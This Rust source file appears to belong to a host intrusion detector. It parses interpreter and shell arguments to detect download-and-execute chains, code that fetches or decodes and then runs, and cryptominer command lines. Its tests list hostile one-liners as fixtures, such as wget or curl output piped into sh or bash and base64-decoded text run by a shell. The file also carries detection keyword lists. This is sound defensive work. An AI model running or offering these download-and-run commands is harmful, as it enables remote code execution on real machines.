//! What arguments say: which script or text an interpreter runs, what a shell text pipes into what, and whether they
//! are those of a miner. Arguments are claims; a check joins them with places and connections.

use super::table::Process;
use super::word::{base, contains, contains_any_case, family_name, is_downloader, is_interpreter, is_loader, is_shell};

/// What an interpreter was told to run.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Code {
    /// A script, absolute when the working directory is known.
    Script(Vec<u8>),
    /// A text in the arguments (`sh -c`, `php -r`, `perl -e`).
    Inline(Vec<u8>),
    /// Whatever comes in by standard input.
    Stdin,
    /// A module by name (`python -m`), or a server of the interpreter itself (`php -S`).
    Module,
    /// Not an interpreter, or its arguments were replaced by a title.
    Unknown,
}

/// Reads the arguments of an interpreter.
pub fn code(process: &Process) -> Code {
    if !is_interpreter(&process.exe) {
        return Code::Unknown;
    }
    let Some((title, rest)) = process.argv.split_first() else { return Code::Unknown };
    if is_loader(&process.exe) {
        return rest.iter().find(|arg| !arg.starts_with(b"-")).map_or(Code::Unknown, |file| script(process, file));
    }
    let shell = is_shell(&process.exe);
    let language = family_name(&process.exe);
    let is_php = language.starts_with(b"php") || language == b"lsphp";
    let is_perl = language == b"perl";
    let mut args = rest.iter();
    while let Some(arg) = args.next() {
        if arg.is_empty() {
            continue;
        }
        let Some(letters) = arg.strip_prefix(b"-").filter(|letters| !letters.is_empty()) else {
            return if arg == b"-" { Code::Stdin } else { script(process, arg) };
        };
        let next = |args: &mut std::slice::Iter<'_, Vec<u8>>| args.next().cloned().unwrap_or_default();
        match letters {
            b"-" => return args.next().map_or(Code::Stdin, |file| script(process, file)),
            _ if letters[0] == b'-' => match letters {
                b"-eval" | b"-print" | b"-run" => return Code::Inline(next(&mut args)),
                b"-file" if is_php => return script(process, &next(&mut args)),
                b"-server" if is_php => return Code::Module,
                b"-require" | b"-import" | b"-loader" | b"-rcfile" | b"-init-file" => drop(args.next()),
                _ => {}
            },
            b"jar" => return script(process, &next(&mut args)),
            _ if shell && letters.contains(&b'c') => return Code::Inline(next(&mut args)),
            _ if shell && letters.contains(&b's') => return Code::Stdin,
            b"o" if shell => drop(args.next()),
            _ if shell => {}
            b"f" | b"F" if is_php => return script(process, &next(&mut args)),
            b"r" | b"B" | b"R" | b"E" if is_php => return Code::Inline(next(&mut args)),
            b"S" if is_php => return Code::Module,
            b"c" | b"d" | b"t" | b"z" if is_php => drop(args.next()),
            _ if is_php => {}
            b"m" => return Code::Module,
            b"c" if language.starts_with(b"py") => return Code::Inline(next(&mut args)),
            b"W" | b"X" if language.starts_with(b"py") => drop(args.next()),
            b"I" | b"C" if is_perl || language == b"ruby" => drop(args.next()),
            b"r" if language.starts_with(b"node") => drop(args.next()),
            // -e, -pe, -lane …: the text follows; -M and -i take the rest of the same word.
            _ if matches!(letters.last(), Some(b'e' | b'E')) && !matches!(letters[0], b'M' | b'm' | b'i') => {
                return Code::Inline(next(&mut args));
            }
            b"p" if language.starts_with(b"node") => return Code::Inline(next(&mut args)),
            _ => {}
        }
    }
    // A login shell reads a terminal; a replaced title says nothing about the code.
    let named = super::word::same_program(base(title), base(&process.exe));
    if named && !title.starts_with(b"-") { Code::Stdin } else { Code::Unknown }
}

fn script(process: &Process, file: &[u8]) -> Code {
    if file.is_empty() {
        return Code::Unknown;
    }
    if file.starts_with(b"/") || process.cwd.is_empty() {
        return Code::Script(file.to_vec());
    }
    let cwd = process.cwd.strip_suffix(b" (deleted)").unwrap_or(&process.cwd);
    let file = file.strip_prefix(b"./").unwrap_or(file);
    Code::Script([cwd.strip_suffix(b"/").unwrap_or(cwd), b"/", file].concat())
}

/// One command of a shell text: its words, and whether a pipe leads into it.
struct Stage {
    words: Vec<Vec<u8>>,
    piped: bool,
}

/// Splits a shell text into commands. Knows quotes and operators, not the whole grammar: an unusual text is
/// understood less, never more.
fn stages(text: &[u8]) -> Vec<Stage> {
    let mut stages = vec![Stage { words: Vec::new(), piped: false }];
    let mut word: Option<Vec<u8>> = None;
    let mut quote = 0u8;
    let mut bytes = text.iter().copied().peekable();
    while let Some(b) = bytes.next() {
        if quote != 0 {
            if b == quote {
                quote = 0
            } else {
                word.get_or_insert_default().push(b)
            }
            continue;
        }
        // `2>&1` and `&>` redirect; they end no command.
        let redirects =
            b == b'&' && (word.as_ref().is_some_and(|word| word.ends_with(b">")) || bytes.peek() == Some(&b'>'));
        let operator = !redirects && matches!(b, b'|' | b';' | b'&' | b'\n' | b'(' | b')' | b'`' | b'{' | b'}');
        if (operator || b.is_ascii_whitespace())
            && let Some(word) = word.take()
        {
            stages.last_mut().expect("never empty").words.push(word);
        }
        match b {
            b'\'' | b'"' => {
                quote = b;
                word.get_or_insert_default();
            }
            b'\\' => word.get_or_insert_default().extend(bytes.next()),
            b'|' => {
                let next = bytes.peek().copied();
                if matches!(next, Some(b'|' | b'&')) {
                    bytes.next();
                }
                stages.push(Stage { words: Vec::new(), piped: next != Some(b'|') });
            }
            _ if operator => stages.push(Stage { words: Vec::new(), piped: false }),
            _ if b.is_ascii_whitespace() => {}
            _ => word.get_or_insert_default().push(b),
        }
    }
    if let Some(word) = word {
        stages.last_mut().expect("never empty").words.push(word);
    }
    stages.retain(|stage| !stage.words.is_empty());
    stages
}

/// The command of a stage and its arguments, without assignments, keywords and wrappers before it.
fn command(words: &[Vec<u8>]) -> Option<(&[u8], &[Vec<u8>])> {
    const BEFORE: &[&str] = &[
        "sudo",
        "nohup",
        "env",
        "exec",
        "time",
        "nice",
        "ionice",
        "setsid",
        "command",
        "busybox",
        "do",
        "then",
        "else",
        "if",
        "while",
        "until",
        "!",
        "eval",
        "stdbuf",
        "unbuffer",
        "proxychains",
    ];
    let mut at = 0;
    let mut wrapped = false;
    while let Some(word) = words.get(at) {
        let name = base(word);
        let assigns = word
            .iter()
            .position(|b| *b == b'=')
            .is_some_and(|eq| eq > 0 && !word[..eq].contains(&b'/') && word[0] != b'-');
        if name == b"timeout" {
            at += 2;
            wrapped = true;
        } else if assigns || BEFORE.iter().any(|b| b.as_bytes() == name) {
            at += 1;
            wrapped = true;
        } else if wrapped && word.starts_with(b"-") {
            at += 1;
        } else {
            return Some((word, &words[at + 1..]));
        }
    }
    None
}

/// Whether this shell text lets a download or a decoded text run: by a pipe, by substitution, or by saving a file and
/// starting it.
pub fn runs_download(text: &[u8]) -> bool {
    let stages = stages(text);
    let mut fed = false;
    let mut saved: Vec<Vec<u8>> = Vec::new();
    for stage in &stages {
        let Some((name, args)) = command(&stage.words) else { continue };
        fed = fed && stage.piped;
        if fed && reads_code(name, args) {
            return true;
        }
        if is_downloader(name) {
            fed = true;
            saved.extend(saved_as(args));
        } else if decodes(name, args) {
            fed = true;
        }
        let started = |file: &[u8]| saved.iter().any(|saved| base(saved) == base(file));
        if !is_downloader(name) && (started(name) || (is_interpreter(name) && args.iter().any(|arg| started(arg)))) {
            return true;
        }
    }
    substituted(text)
}

/// A shell or interpreter without a script of its own: standard input is its code.
fn reads_code(name: &[u8], args: &[Vec<u8>]) -> bool {
    if !is_interpreter(name) {
        return false;
    }
    let mut args = args.iter().take_while(|arg| *arg != b"--" && *arg != b"-s");
    while let Some(arg) = args.next() {
        if arg.contains(&b'>') {
            // `>/dev/null`, or `>` and the file behind it.
            if arg.ends_with(b">") {
                args.next();
            }
            continue;
        }
        let flag = matches!(&arg[..], b"-" | b"/dev/stdin" | b"-x" | b"-i" | b"-u" | b"-q" | b"-l" | b"-f");
        // `-e` means "stop at errors" to a shell and "here is the code" to the others.
        if !(flag || (arg == b"-e" && is_shell(name))) {
            return false;
        }
    }
    true
}

fn decodes(name: &[u8], args: &[Vec<u8>]) -> bool {
    let has = |flags: &[&[u8]]| args.iter().any(|arg| flags.contains(&&arg[..]));
    match base(name) {
        b"base64" | b"base32" => has(&[b"-d", b"-D", b"--decode", b"-di", b"-id"]),
        b"openssl" => has(&[b"-d", b"base64", b"enc"]),
        b"xxd" => args.iter().any(|arg| arg.starts_with(b"-r") || arg.starts_with(b"-p")),
        b"uudecode" => true,
        _ => false,
    }
}

/// Files that a downloader writes: `-O x`, `-o x`, `-Ox`, `> x`, or the last part of the address.
fn saved_as(args: &[Vec<u8>]) -> Vec<Vec<u8>> {
    let mut files = Vec::new();
    for (at, arg) in args.iter().enumerate() {
        let after = |n: usize| args.get(at + n).cloned();
        match &arg[..] {
            b"-o" | b"--output" | b"--output-document" | b">" | b"-qO" | b"-nvO" => files.extend(after(1)),
            b"-O" => files.extend(after(1).filter(|next| !contains(next, b"://"))),
            _ if arg.starts_with(b"-")
                && arg.len() > 2
                && matches!(arg[arg.len() - 1], b'o' | b'O')
                && arg[1] != b'-' =>
            {
                files.extend(after(1).filter(|next| !contains(next, b"://")));
            }
            _ => {}
        }
        if contains(arg, b"://") && base(arg).len() > 2 {
            files.push(base(arg).split(|b| *b == b'?').next().unwrap_or_default().to_vec());
        }
    }
    files.retain(|file| file.len() > 1 && !file.starts_with(b"-") && file != b"/dev/null");
    files
}

/// `sh -c "$(curl …)"`, `eval $(wget …)`, `bash <(curl …)`, `. <(curl …)`.
fn substituted(text: &[u8]) -> bool {
    for opening in [&b"$("[..], b"`", b"<("] {
        let mut from = 0;
        while let Some(at) = text[from..].windows(opening.len()).position(|window| window == opening) {
            let start = from + at;
            from = start + opening.len();
            let inside =
                text[from..].split(|b| b.is_ascii_whitespace()).find(|word| !word.is_empty()).unwrap_or_default();
            let before = text[..start].rsplit(|b| matches!(b, b';' | b'\n' | b'|' | b'&')).next().unwrap_or_default();
            let mut words = before.split(|b| b.is_ascii_whitespace()).filter(|word| !word.is_empty());
            let caller =
                words.find(|word| !matches!(*word, b"sudo" | b"nohup" | b"exec" | b"do" | b"then")).unwrap_or_default();
            if is_downloader(inside) && (matches!(caller, b"eval" | b"source" | b".") || is_interpreter(caller)) {
                return true;
            }
        }
    }
    false
}

/// Whether a text of PHP, Python, Perl, Ruby or Node fetches or decodes something and runs it.
pub fn code_runs_download(text: &[u8]) -> bool {
    const FETCH: &[&str] = &[
        "file_get_contents",
        "curl_exec",
        "fopen(",
        "urlopen",
        "requests.get",
        "urllib",
        "http.client",
        "LWP::",
        "HTTP::Tiny",
        "IO::Socket",
        "open-uri",
        "Net::HTTP",
        "http.get",
        "https.get",
        "fetch(",
        "fsockopen",
        "stream_socket_client",
    ];
    const RUN: &[&str] = &[
        "eval(",
        "eval ",
        "exec(",
        "system(",
        "passthru(",
        "shell_exec(",
        "popen(",
        "proc_open(",
        "os.system",
        "subprocess",
        "child_process",
        "include(",
        "include ",
        "require(",
        "assert(",
        "create_function",
        "new Function",
    ];
    let has = |words: &[&str]| words.iter().any(|word| contains_any_case(text, word.as_bytes()));
    let decodes = ["base64_decode", "b64decode", "decode_base64", "gzinflate", "fromhex", "Buffer.from("];
    if has(&decodes) && has(RUN) {
        return true;
    }
    has(FETCH) && has(RUN) && (contains(text, b"://") || contains_any_case(text, b"base64"))
}

/// Whether an address in the text is written as digits, as download servers of intruders often are.
pub fn names_bare_address(text: &[u8]) -> bool {
    text.windows(3).enumerate().filter(|(_, window)| *window == b"://").any(|(at, _)| {
        let host: &[u8] =
            text[at + 3..].split(|b| matches!(b, b'/' | b':' | b' ' | b'"' | b'\'' | b'|')).next().unwrap_or_default();
        !host.is_empty() && host.iter().all(|b| b.is_ascii_digit() || *b == b'.')
    })
}

/// Whether a shell text starts something again and again.
pub fn loops(text: &[u8]) -> bool {
    let words: Vec<&[u8]> =
        text.split(|b| b.is_ascii_whitespace() || matches!(b, b';' | b'&' | b'|' | b'(' | b'`')).collect();
    let has = |word: &[u8]| words.iter().any(|w| base(w) == word);
    (has(b"while") || has(b"until") || has(b"for"))
        && (has(b"sleep") || has(b"pgrep") || has(b"pidof") || has(b"ps") || has(b"kill"))
}

/// How much arguments look like a miner's: 3 or more cannot be read as anything else.
pub fn miner_points(argv: &[Vec<u8>]) -> u32 {
    const ALGORITHMS: &[&str] = &[
        "randomx",
        "rx",
        "cn",
        "cn-lite",
        "cn-heavy",
        "cn-pico",
        "cryptonight",
        "kawpow",
        "ethash",
        "etchash",
        "autolykos2",
        "autolykos",
        "yescrypt",
        "yespower",
        "scrypt",
        "sha256d",
        "argon2",
        "ghostrider",
        "gr",
        "verushash",
        "equihash",
        "x11",
        "x16r",
        "x16rv2",
        "x17",
        "lyra2rev2",
        "lyra2z",
        "kheavyhash",
        "progpow",
        "octopus",
        "cuckatoo31",
        "cuckatoo32",
        "astrobwt",
        "panthera",
        "firopow",
        "blake3",
        "nexapow",
        "karlsenhash",
        "pyrinhash",
        "minotaurx",
        "power2b",
        "allium",
        "neoscrypt",
        "groestl",
        "quark",
        "qubit",
        "monero",
        "xmr",
    ];
    let mut points = 0;
    let mut pool = false;
    let mut person = false;
    let mut algorithm = false;
    let mut special = false;
    for (at, arg) in argv.iter().enumerate() {
        let (name, value) = match arg.iter().position(|b| *b == b'=') {
            Some(eq) if arg.starts_with(b"-") => (&arg[..eq], Some(arg[eq + 1..].to_vec())),
            _ => (&arg[..], argv.get(at + 1).cloned()),
        };
        let value = value.unwrap_or_default();
        if ["stratum+", "stratum1+", "stratum2+", "stratum://", "stratums://", "daemon+http"]
            .iter()
            .any(|s| contains_any_case(arg, s.as_bytes()))
        {
            points += 3;
        }
        match name {
            b"--algo" | b"-a" | b"--coin" | b"--algorithm" | b"--pers" => {
                let value = value.to_ascii_lowercase();
                let stem = value.split(|b| *b == b'/' || *b == b'_').next().unwrap_or_default();
                algorithm |= ALGORITHMS.iter().any(|known| known.as_bytes() == stem);
            }
            b"--pool" | b"-o" | b"--url" | b"--server" | b"-P" | b"--proxy" | b"--address" => {
                pool |= is_host_port(&value)
            }
            b"--user" | b"-u" | b"--wallet" | b"--login" | b"-w" | b"--worker" | b"--username" => person = true,
            b"--donate-level"
            | b"--donate"
            | b"--rig-id"
            | b"--nicehash"
            | b"--cpu-max-threads-hint"
            | b"--max-cpu-usage"
            | b"--cpu-affinity"
            | b"--cpu-priority"
            | b"--huge-pages"
            | b"--no-huge-pages"
            | b"--asm"
            | b"--av"
            | b"--tls-fingerprint" => special = true,
            _ if name.starts_with(b"--randomx-") || name.starts_with(b"--cuda-") || name.starts_with(b"--opencl-") => {
                special = true
            }
            _ => {}
        }
        person |= is_wallet(arg.split(|b| matches!(b, b'.' | b'+' | b'/' | b'=')).next_back().unwrap_or(arg))
            || is_wallet(arg.split(|b| *b == b'.').next().unwrap_or(arg));
    }
    points + 2 * u32::from(algorithm) + u32::from(pool) + u32::from(person) + 2 * u32::from(special)
}

fn is_host_port(value: &[u8]) -> bool {
    let Some(colon) = value.iter().rposition(|b| *b == b':') else { return false };
    let port = &value[colon + 1..];
    colon > 3 && (2..=5).contains(&port.len()) && port.iter().all(u8::is_ascii_digit)
}

/// A coin address: Monero (95 or 106 signs from 4 or 8), Ethereum-like, bech32.
fn is_wallet(word: &[u8]) -> bool {
    let plain = word.iter().all(u8::is_ascii_alphanumeric);
    let hex = |rest: &[u8]| rest.len() == 40 && rest.iter().all(u8::is_ascii_hexdigit);
    plain
        && (((95..=106).contains(&word.len()) && matches!(word[0], b'4' | b'8'))
            || word.strip_prefix(b"0x").is_some_and(hex)
            || (word.starts_with(b"bc1") && (38..=62).contains(&word.len())))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn texts_that_run_a_download_are_told_from_texts_that_only_download() {
        for text in [
            "wget -qO- http://203.0.113.9/s|sh",
            "(curl -fsSL http://x.example/i || wget -qO- http://x.example/i) | bash",
            "cd /tmp; curl -s http://x.example/a | sudo -n bash -s -- -q",
            "echo cm0= | base64 -d | sh",
            "lynx -source http://x.example/a | perl",
            "fetch -o - http://x.example/a | php",
            "bash -c \"$(curl -fsSL http://x.example/i)\"",
            "eval `wget -qO- http://x.example`",
            ". <(curl -s http://x.example/i)",
            "wget http://x.example/k -O /tmp/.k; chmod +x /tmp/.k; /tmp/.k",
            "curl -o x.pl http://x.example/y && perl x.pl >/dev/null 2>&1 &",
            "cd /tmp && wget http://x.example/bot.pl && perl bot.pl",
            "nohup timeout 30 curl http://x.example/a|/bin/sh >/dev/null 2>&1",
            "curl http://x.example/a.gz | gunzip | sh",
        ] {
            assert!(runs_download(text.as_bytes()), "{text}");
        }
        for text in [
            "wget -q -O - https://aoi.example/wp-cron.php > /dev/null 2>&1",
            "curl -s https://api.example/x | jq .name",
            "curl -s https://api.example/x | python3 -m json.tool",
            "curl -s https://api.example/x | python3 -c 'import json'",
            "curl https://x.example/a.tgz | tar xz",
            "curl https://x.example/a.tgz || sh notify.sh",
            "mysqldump db | gzip > a.gz; sh done.sh",
            "base64 -d a.b64 > a.png; php resize.php",
            "wget -O feed.csv https://x.example/f && php import.php",
            "grep -r 'curl http' . ; sh",
            "echo 'curl http://x.example | sh'",
            "for f in *.sh; do sh $f; done",
        ] {
            assert!(!runs_download(text.as_bytes()), "{text}");
        }
    }

    #[test]
    fn miner_arguments_need_more_than_one_common_option() {
        let points = |line: &str| miner_points(&line.split(' ').map(|a| a.as_bytes().to_vec()).collect::<Vec<_>>());
        assert!(points("./x -o stratum+tcp://a.example:3333") >= 3);
        assert!(points("./x --algo=rx/0 --pool a.example:1010 --user w") >= 3);
        assert!(points("./x -o a.example:443 -u 4xx --donate-level 1") >= 3);
        assert!(points("./x --pool db.example:5432 --user app") < 3);
        assert!(points("./x -a 3 -o out.txt -u me") < 3);
        assert!(points("rsync -a --url x:22") < 3);
    }
}
